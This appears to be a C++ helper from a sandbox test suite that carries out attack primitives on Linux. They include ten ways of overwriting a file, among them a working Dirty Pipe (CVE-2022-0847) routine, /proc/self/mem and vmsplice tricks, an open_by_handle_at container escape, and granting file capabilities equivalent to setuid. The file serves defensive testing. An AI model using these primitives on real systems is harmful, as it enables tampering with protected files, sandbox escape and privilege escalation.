// Files: the many ways to change one, and the few to reach one without its path.
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <new>

#include "tests/support/attacks/attacks.h"

namespace cove::payload {
namespace {

constexpr char kByte = 'X';  // what attacks write over the first byte
constexpr std::size_t kPage = 4096;

// Each returns what its last call did.
using Way = long (*)(const char* path);

long by_write(const char* path) {
  const int fd = open(path, O_RDWR | O_CLOEXEC);
  return fd < 0 ? -1 : pwrite(fd, &kByte, 1, 0);
}

long by_shared_mapping(const char* path) {
  const int fd = open(path, O_RDWR | O_CLOEXEC);
  if (fd < 0) return -1;
  void* const memory = mmap(nullptr, kPage, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (memory == MAP_FAILED) return -1;
  *static_cast<char*>(memory) = kByte;
  return msync(memory, kPage, MS_SYNC);
}

long by_truncation(const char* path) { return truncate(path, 0); }

// A descriptor for reading, opened again.
long by_reopening(const char* path) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  return by_write(("/proc/self/fd/" + std::to_string(fd)).c_str());
}

// The kernel writes where this process may not, into what it takes for private memory.
long by_own_memory(const char* path) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  void* const memory = mmap(nullptr, kPage, PROT_READ, MAP_SHARED, fd, 0);
  if (memory == MAP_FAILED) return -1;
  const int self = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  return self < 0 ? -1
                  : pwrite(self, &kByte, 1, static_cast<off_t>(reinterpret_cast<intptr_t>(memory)));
}

long by_protection(const char* path) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  void* const memory = mmap(nullptr, kPage, PROT_READ, MAP_SHARED, fd, 0);
  if (memory == MAP_FAILED) return -1;
  if (mprotect(memory, kPage, PROT_READ | PROT_WRITE) != 0) return -1;
  *static_cast<char*>(memory) = kByte;
  return msync(memory, kPage, MS_SYNC);
}

// From a pipe into the file.
long by_splice(const char* path) {
  std::array<int, 2> ends{};
  const int fd = open(path, O_RDWR | O_CLOEXEC);
  if (fd < 0 || pipe2(ends.data(), O_CLOEXEC) != 0) return -1;
  if (write(ends[1], &kByte, 1) != 1) return -1;
  loff_t offset = 0;
  return splice(ends[0], nullptr, fd, &offset, 1, 0);
}

// The file's page itself goes into a pipe, and is then written to as if it were the pipe's: what
// Dirty Pipe (CVE-2022-0847) did, on a kernel that let it.
long by_dirty_pipe(const char* path) {
  std::array<int, 2> ends{};
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || pipe2(ends.data(), O_CLOEXEC) != 0) return -1;
  std::array<char, kPage> page{};
  const int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int i = 0; i < size; i += static_cast<int>(kPage))
    if (write(ends[1], page.data(), kPage) < 0) return -1;
  for (int i = 0; i < size; i += static_cast<int>(kPage))
    if (read(ends[0], page.data(), kPage) < 0) return -1;
  loff_t offset = 0;
  if (splice(fd, &offset, ends[1], nullptr, 1, 0) != 1) return -1;
  const std::array<char, 8> more{kByte, kByte, kByte, kByte, kByte, kByte, kByte, kByte};
  return write(ends[1], more.data(), more.size());
}

// A page of the file's own mapping is given away to a pipe, and changed behind it.
long by_vmsplice(const char* path) {
  std::array<int, 2> ends{};
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || pipe2(ends.data(), O_CLOEXEC) != 0) return -1;
  void* const memory = mmap(nullptr, kPage, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
  if (memory == MAP_FAILED) return -1;
  iovec part{memory, kPage};
  if (vmsplice(ends[1], &part, 1, SPLICE_F_GIFT) < 0) return -1;
  *static_cast<char*>(memory) = kByte;
  return 0;
}

long by_removal(const char* path) {
  if (unlink(path) != 0) return -1;
  return open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666);
}

struct NamedWay {
  const char* name;
  Way way;
};
constexpr std::array<NamedWay, 10> kWays{{{"write", by_write},
                                          {"shared-mapping", by_shared_mapping},
                                          {"truncate", by_truncation},
                                          {"reopen", by_reopening},
                                          {"own-memory", by_own_memory},
                                          {"mprotect", by_protection},
                                          {"splice", by_splice},
                                          {"dirty-pipe", by_dirty_pipe},
                                          {"vmsplice", by_vmsplice},
                                          {"remove", by_removal}}};

// struct file_handle, with room for the handle.
struct Handle {
  unsigned size = 128;
  int type = 0;
  std::array<unsigned char, 128> bytes{};
};

}  // namespace

// overwrite WAY PATH: changes the first byte, or all of them.
void overwrite(const Arguments& a) {
  for (const NamedWay& known : kWays) {
    if (a[1] == known.name) return report(a[1], known.way(a[2].c_str()) < 0 ? -1 : 0);
  }
  line("overwrite: no such way");
}

// print-handle PATH: "handle: TYPE HEX"
void print_handle(const Arguments& a) {
  Handle handle;
  int mount = 0;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, a[1].c_str(), &handle, &mount, 0) != 0)
    return report("name_to_handle_at", -1);
  std::string text = "handle: " + std::to_string(handle.type) + " ";
  for (std::size_t i = 0; i < handle.size && i < handle.bytes.size(); ++i) {
    std::array<char, 3> digits{};
    std::snprintf(digits.data(), digits.size(), "%02x", handle.bytes[i]);
    text += digits.data();
  }
  line(text);
}

// open-handle DIRECTORY TYPE HEX: any file of the directory's file system, by its handle alone. Reads
// it.
void open_handle(const Arguments& a) {
  Handle handle;
  handle.type = integer(a[2]);
  handle.size = 0;
  for (std::size_t i = 0; i + 1 < a[3].size() && handle.size < handle.bytes.size(); i += 2)
    handle.bytes[handle.size++] = static_cast<unsigned char>(number("0x" + a[3].substr(i, 2)));
  const int directory = open(a[1].c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (directory < 0) return report("open", -1);
  const long fd = syscall(SYS_open_by_handle_at, directory, &handle, O_RDONLY | O_CLOEXEC);
  report("open_by_handle_at", fd);
  if (fd >= 0) line(contents("/proc/self/fd/" + std::to_string(fd)));
}

// give-capabilities PATH: to who runs it, as an extended attribute; as good as setuid.
void give_capabilities(const Arguments& a) {
  constexpr std::uint32_t kRevision2AndEffective = 0x02000001, kChown = 1;
  const std::array<std::uint32_t, 5> data{kRevision2AndEffective, kChown, kChown, 0, 0};
  report("setxattr", setxattr(a[1].c_str(), "security.capability", data.data(), sizeof data, 0));
}

// slurp PATH: all of it into memory, as one would read a small file.
void slurp(const Arguments& a) {
  try {
    line("slurp: " + std::to_string(contents(a[1]).size()));
  } catch (const std::bad_alloc&) {
    line("slurp: out of memory");
  }
}

}  // namespace cove::payload
